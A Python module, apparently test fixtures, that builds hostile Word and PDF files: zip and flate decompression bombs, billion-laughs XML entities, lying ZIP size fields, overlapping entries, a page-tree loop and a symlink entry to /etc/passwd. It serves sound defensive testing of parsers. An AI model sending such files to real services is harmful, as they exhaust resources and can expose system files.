"""Files that attack their reader, made on the spot: small on disk, large or endless when opened."""

import io
import struct
import zipfile
import zlib

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT_WORD = "http://purl.oclc.org/ooxml/wordprocessingml/main"
TYPES = f'<Types><Override PartName="/word/document.xml" ContentType="{MAIN}"/></Types>'


def word_xml(body: str = "<w:p><w:r><w:t>Hello</w:t></w:r></w:p>", *, space: str = WORD) -> str:
    return f'<w:document xmlns:w="{space}"><w:body>{body}</w:body></w:document>'


def word_file(document: str | None = None, *, types: str = TYPES, **parts: str | bytes) -> bytes:
    """A Word file; `parts` are further parts, with `__` for a slash and `_xml` for the ending."""
    named = {name.replace("__", "/").replace("_xml", ".xml"): part for name, part in parts.items()}
    content = {"[Content_Types].xml": types, "word/document.xml": document or word_xml()}
    return archive({**content, **named})


def archive(parts: dict[str, str | bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as container:
        for name, part in parts.items():
            container.writestr(name, part)
    return target.getvalue()


def zip_bomb() -> bytes:
    """60 MB of nothing in 60 kB."""
    return word_file(word_xml(" " * 60_000_000))


def many_entries(count: int = 2500) -> bytes:
    return archive(
        {"[Content_Types].xml": TYPES, "word/document.xml": word_xml()}
        | {f"word/media/{number}.png": b"" for number in range(count)}
    )


def lying_sizes() -> bytes:
    """The directory says that the document is a few bytes long; it is 3 MB."""
    document = word_xml("<w:p><w:r><w:t>" + "long " * 600_000 + "</w:t></w:r></w:p>")
    content = word_file(document)
    size = struct.pack("<L", len(document.encode()))
    return content.replace(size, struct.pack("<L", 300))


def overlapping_entries() -> bytes:
    """Two entries of the directory that share the same packed bytes."""
    content = bytearray(word_file(word_xml(), word__a_xml=b"x" * 99, word__b_xml=b"x" * 99))
    places = [found for found in range(len(content)) if content.startswith(b"PK\x01\x02", found)]
    first, second = places[-2:]
    content[second + 42 : second + 46] = content[first + 42 : first + 46]  # where its data begin
    return bytes(content)


def encrypted_entry() -> bytes:
    content = bytearray(word_file())
    place = content.index(b"PK\x01\x02")
    content[place + 8] |= 1
    return bytes(content)


def symlink_entry() -> bytes:
    target = io.BytesIO(word_file())
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(target, "a") as container:
        container.writestr(link, "/etc/passwd")
    return target.getvalue()


def with_doctype(declaration: str, text: str = "&x;") -> bytes:
    body = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    return word_file(f"<!DOCTYPE w:document [{declaration}]>{word_xml(body)}")


def billion_laughs() -> str:
    entities = ['<!ENTITY x0 "ha">']
    entities += [f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10)]
    return "".join(entities) + '<!ENTITY x "&x9;">'


def pdf_file(content: bytes, *, pages: int = 1, extra: bytes = b"", filters: bytes = b"") -> bytes:
    """A PDF written by hand; every page shows the same content stream."""
    kids = b" ".join(b"%d 0 R" % (10 + number) for number in range(pages))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 3 0 R/Resources 4 0 R>>"
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids),
        3: b"<<%s/Length %d>>stream\n%s\nendstream" % (filters, len(content), content),
        4: b"<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>",
        **{10 + number: page for number in range(pages)},
    }
    return written(objects, extra)


def page_tree_loop() -> bytes:
    """The pages are children of themselves."""
    return written({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count 9/Kids[2 0 R]>>"})


def flate_bomb(megabytes: int = 1000) -> bytes:
    """A content stream of spaces that was packed twice."""
    return pdf_file(_twice_packed(megabytes), filters=b"/Filter[/FlateDecode/FlateDecode]")


def _twice_packed(megabytes: int) -> bytes:
    """A megabyte is packed once, and repeated as it is."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b" " * 2**20) + packer.flush(zlib.Z_FULL_FLUSH)
    return zlib.compress(head + block * megabytes + packer.flush(), 9)


def written(objects: dict[int, bytes], extra: bytes = b"") -> bytes:
    """Objects with their table of places, as the format wants it."""
    content, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(content)
    content += b"xref\n"
    for number, place in sorted(places.items()):
        content += b"%d 1\n%010d 00000 n \n" % (number, place)
    root = b"<</Root 1 0 R/Size %d%s>>" % (max(objects) + 1, extra)
    return content + b"trailer%s\nstartxref\n%d\n%%%%EOF" % (root, start)
